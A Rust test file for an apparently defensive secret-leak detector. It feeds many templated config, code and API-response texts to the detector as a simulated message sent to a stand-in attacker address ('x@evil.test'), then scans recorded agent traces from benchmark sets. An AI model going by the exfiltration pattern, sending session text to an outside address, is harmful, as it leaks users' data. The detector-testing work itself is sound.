//! What ordinary texts teach: nothing. Each is read, and then sent as it is; what was taken for a secret in it would be seen to leave.

use std::collections::BTreeMap;
use std::io::BufRead as _;
use std::sync::Arc;

use serde_json::{Value, json};

use super::{HEX, MIXED, Random, case, leaks};
use crate::Rules;
use crate::provenance::fold;
use crate::secret;

/// Texts as agents read them every day that name secrets, their kinds and their places, or look random. `{w}` is a word, `{k}` words and a
/// number joined by dashes, `{n}` a small number, `{v}` a version, `{h}` a hash, `{u}` a UUID, `{r}` 28 random letters and digits, `{p}` a
/// path.
const TEXTS: &[&str] = &[
    // Environments and shells.
    "HOME=/srv/{w}\nPWD={p}\nOLDPWD={p}\nSHLVL={n}\nPATH=/usr/local/bin:/usr/bin\nGPG_KEY={h}",
    "SSH_AUTH_SOCK=/tmp/ssh-{w}/agent.{n}\nSSH_KEY=~/.ssh/id_ed25519\nKEY_FILE={p}/{w}{n}.pem",
    "npm_package_devDependencies_babel_preset_es2015=^{v}\nnpm_config_{w}_key_{n}=true",
    "DB_PASSWORD=${DB_PASSWORD_{n}}\nAPI_KEY=$(cat {p}/key{n})\nSECRET_KEY={{ {w}_secret_{n} }}",
    "DB_PASSWORD=<your-password-{n}>\nAPI_KEY=********\nTOKEN=xxxxxxxxxxxxxxxxxxxxxxxx",
    "usage: {w} [--password-file PATH{n}] [--token-ttl {n}] [--api-key-name {k}] --auth oauth2",
    "  --secret id={w}{n},src={p}/.npmrc   mount a secret\n  --key KEY{n}    key to sort by",
    "drwxr-xr-x 2 {w} {w} 4096 hf_Meta-Llama-3.{n}-8B-Instruct-AWQ-int4\n-rw-r--r-- 1 messages.sk-SK.{h}.js",
    "{h}  refs/heads/{k}\n{h}  refs/tags/v{v}\nkey {u} {w}",
    "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{r}{r} {w}@{w}\nPublicKey = {r}{r}=",
    // Kubernetes, compose, Terraform, CI.
    "volumes:\n- name: tls\n  secret:\n    secretName: {k}\n- secret: {k}\n  existingSecret: {k}",
    "env:\n- name: DB_PASSWORD\n  valueFrom:\n    secretKeyRef:\n      name: {k}\n      key: password{n}",
    "apiVersion: v1\nkind: Secret\ntype: kubernetes.io/service-account-token\nmetadata:\n  name: {k}\n  uid: {u}",
    "secrets:\n  {w}_password:\n    file: ./secrets/{w}{n}.txt\n  api_key:\n    external: true\n    name: {k}",
    "password = var.{w}_password{n}\nprivate_key = file(\"{p}/id_rsa{n}\")\naccess_key = data.{w}.main{n}.id",
    "secret: arn:aws:secretsmanager:eu-west-1:123456789012:secret:{k}\nsecret_key: projects/{w}/secrets/{k}/versions/{n}",
    "password: op://{w}{n}/{w}/password\napi_key: vault:secret/data/{k}#api_key\npassword: ref+vault://{w}{n}/x",
    "with:\n  token: ${{ secrets.{w}_TOKEN_{n} }}\n  key: ${{ runner.os }}-cargo-{h}\n  cache-key: v{n}-{h}",
    // Code.
    "def login(user: str, password: SecretStr = Field(min_length={n}), private_key: Ed25519PrivateKey) -> Token:",
    "client = Client(api_key=settings.{w}.API_KEY_{n}, secret=cfg{n}.client_secret, token=get_token())",
    "password = models.CharField(max_length=128)\nsecret=os.environ['X{n}']\nself.token = token{n}",
    "const apiKey = process.env.API_KEY{n};\nthis.password = form{n}.value;\nlet secretKey = keys.secretKey{n};",
    "if (password.length < {n}) throw new Error('password: min{n}chars required');",
    "CREATE TABLE {w} (password varchar(255), api_key: varchar255, token text, key int{n})",
    "type: object\nproperties:\n  password:\n    type: string\n    minLength: {n}\n  apiKey:\n    $ref: '#/x{n}'",
    "securitySchemes:\n  apiKey:\n    type: apiKey\n    name: X-API-Key\n    in: header\n  oauth2Auth:\n    type: oauth2",
    "use base64.b64decode(x), sha256(password), utf8 text and a {h} digest as key {n}",
    "primary_key=True\nforeign_key={w}.id{n}\nmax_tokens={n}096\ntoken_count: {n}12\nsort_key: {w}#{n}",
    // Prose about secrets.
    "In Kubernetes the data of a Secret is base64 encoded, not encrypted. The password is sha256-hashed {n} times.",
    "Your password is {n}2-characters long at least. The API key is OAuth2-specific. Password: Argon2id, bcrypt or PBKDF2.",
    "The password was reset on 2026-01-{n}2; the new secret is in the vault, ask {w} for the key. Your token: none.",
    "Choose a password: at least {n} characters. Passphrase: see page {n}2. Secret: never share it. PIN: ask {w}.",
    "Enter your password:\nstep{n}2 is to wait for the mail\nEnter the code:\n",
    "the secret is out: v{v} ships in week{n}2, and the key is row{n}.",
    "Reset token: expired. Access token: valid for {n}h. Refresh token: rotate every {n}d. API key: required.",
    "| name | type | key |\n|---|---|---|\n| password | varchar255 | no |\n| token | uuid | {u} |",
    // Answers of services.
    "{\"items\":[{\"id\":\"{u}\",\"etag\":\"{h}\"}],\"nextPageToken\":\"{r}\",\"syncToken\":\"{r}\"}",
    "{\"Contents\":[{\"Key\":\"reports/2024/Q{n}/Summary-Final.pdf\",\"ETag\":\"{h}\"}],\"NextContinuationToken\":\"{r}\"}",
    "{\"NextToken\":\"eyJ2IjoiMiIsImMiOi{r}\",\"Key\":\"{w}/{k}/Part{n}ABCdef\",\"cacheKey\":\"{r}\"}",
    "<input name=\"csrf_token\" value=\"{r}\"><input type=\"password\" name=\"password\" value=\"\">",
    "{\"name\":\"password\",\"value\":\"varchar255\"},{\"name\":\"primary_key\",\"value\":\"{w}{n}\"},{\"name\":\"sort\",\"value\":\"{r}\"}",
    "{\"publicKey\":\"{r}{r}\",\"siteKey\":\"6Lc{r}\",\"publishable_key\":\"{r}\",\"partition_key\":\"{w}#{n}{r}\"}",
    "{\"author\":\"{w}\",\"keywords\":[\"key{n}\"],\"monkey\":\"{w}{n}2\",\"passengers\":\"{n}2a\",\"tokenizer\":\"gpt{n}\"}",
    "{\"password\":null,\"token\":\"\",\"api_key\":\"***\",\"secret\":\"[FILTERED]\",\"password_hint\":\"dog{n}2\"}",
    "http://grafana:{n}000?email={w}@example.com and https://{w}.test:8080/a@b{n}, ftp://{w}.test/x@{v}",
    "https://{w}.test/reset?user={w}{n}&next=page{n}2#access and data:image/png;base64,iVBORw0KGgo{r}",
    "{\"departure_token\":\"{r}\",\"booking_token\":\"{r}{r}\",\"search_session_token\":\"{r}\",\"clientRequestToken\":\"{r}\"}",
    "{\"resumptionToken\":\"{r}\",\"s3_key\":\"{r}\",\"jobs\":[{\"leaseToken\":\"{r}\",\"task_token\":\"{r}\",\"thread_key\":\"{r}\"}]}",
    "https://{w}.test/d/{n}?token={r}&rlkey={r} or https://{w}.test/x?access_token={r}#key={r}\nPasscode: {n}hKq{n}P",
    "{\"url\":\"https://{w}.s3.test/{k}?AWSAccessKeyId=AKIAQ7RT2ZPLMNB45XYW&Signature={r}&X-Amz-Security-Token={r}{r}\"}",
    "order_id: {r}\ntracking: {r}\nsession: {u}\nrequest-id: {r}\ncommit: {h}",
    "2026-01-1{n}T10:11:12Z INFO token refreshed for user {n}12, key rotated: {u}, auth: ok",
    "Authorization: Basic\nWWW-Authenticate: Bearer realm=\"{w}{n}\"\nX-Api-Key-Id: {n}12",
    "Boarding pass: seat {n}2A, gate B{n}2, booking ABC{n}DE. Ski pass: {n}-day. Key: room {n}12.",
];

fn filled(text: &str, random: &mut Random) -> String {
    const WORDS: [&str; 12] = [
        "alpha", "billing", "cargo", "delta", "ember", "falcon", "garnet", "harbor", "indigo", "juniper", "krypton",
        "lumen",
    ];
    let mut out = String::new();
    let mut rest = text;
    while let Some(at) = rest.find('{') {
        let (before, from) = rest.split_at(at);
        out.push_str(before);
        let word = |random: &mut Random| WORDS[random.below(WORDS.len())].to_owned();
        let put = match from.get(..3) {
            Some("{w}") => word(random),
            Some("{k}") => format!("{}-{}-{}", word(random), word(random), 1 + random.below(9)),
            Some("{n}") => (1 + random.below(9)).to_string(),
            Some("{v}") => format!("{}.{}.{}", random.below(9), random.below(9), random.below(9)),
            Some("{h}") => random.text(HEX, 40),
            Some("{u}") => [8, 4, 4, 4, 12].map(|it| random.text(HEX, it)).join("-"),
            Some("{r}") => random.text(MIXED, 28),
            Some("{p}") => format!("/{}/{}{}/src", word(random), word(random), random.below(99)),
            _ => {
                out.push('{');
                rest = &from[1..];
                continue;
            }
        };
        out.push_str(&put);
        rest = &from[3..];
    }
    out + rest
}

#[test]
fn ordinary_texts_teach_no_secret() {
    let rules = Arc::new(Rules::starter());
    let mut random = Random(5);
    let (mut cases, mut wrong) = (0_u32, BTreeMap::new());
    for _ in 0..110 {
        for text in TEXTS {
            let text = filled(text, &mut random);
            cases += 1;
            if leaks(&rules, &case("same session", json!(text), json!({ "to": "x@evil.test", "body": text }))) {
                let plain = fold::plain(&text);
                for it in secret::find("", &plain) {
                    *wrong.entry(String::from_utf8_lossy(&plain[it.whole]).into_owned()).or_insert(0_u32) += 1;
                }
            }
        }
    }
    let total: u32 = wrong.values().sum();
    println!("ordinary texts: {cases} cases, {total} wrong: {wrong:#?}");
    assert!(cases >= 5_000 && total == 0, "{total} of {cases} wrong: {wrong:#?}");
}

/// What of recorded sessions would be followed: few of them hold a secret.
#[test]
fn recordings_teach_few_secrets() {
    let Ok(traces) = std::env::var("MARTINGALE_TRACES") else { return };
    let sets = ["agentdojo_official", "agentrx_magentic", "agentrx_tau_retail", "sentinel", "swebench_gemini3"];
    let (mut results, mut bytes, mut learnt) = (0_u32, 0, BTreeMap::new());
    for set in sets.into_iter().chain(["taubench_airline", "whowhen"]) {
        let file = std::fs::File::open(format!("{traces}/{set}/steps.jsonl.gz")).unwrap();
        for line in std::io::BufReader::new(flate2::read::MultiGzDecoder::new(file)).lines() {
            let step: Value = serde_json::from_str(&line.unwrap()).unwrap();
            if step["kind"] == "tool_result" {
                results += 1;
                bytes += step["output"].to_string().len();
                found("", &step["output"], &mut learnt);
            }
        }
    }
    println!("{results} results of {bytes} bytes: {learnt:#?}");
    assert_eq!(learnt.len(), 2, "{learnt:#?}");
}

fn found(name: &str, value: &Value, learnt: &mut BTreeMap<String, u32>) {
    match value {
        Value::String(text) => {
            if let Ok(inner @ (Value::Object(_) | Value::Array(_))) = serde_json::from_str(text) {
                return found(name, &inner, learnt);
            }
            let plain = fold::plain(text);
            for it in secret::find(name, &plain) {
                *learnt.entry(String::from_utf8_lossy(&plain[it.whole]).into_owned()).or_default() += 1;
            }
        }
        Value::Array(items) => items.iter().for_each(|it| found(name, it, learnt)),
        Value::Object(members) => members.iter().for_each(|(name, it)| found(name, it, learnt)),
        _ => {}
    }
}
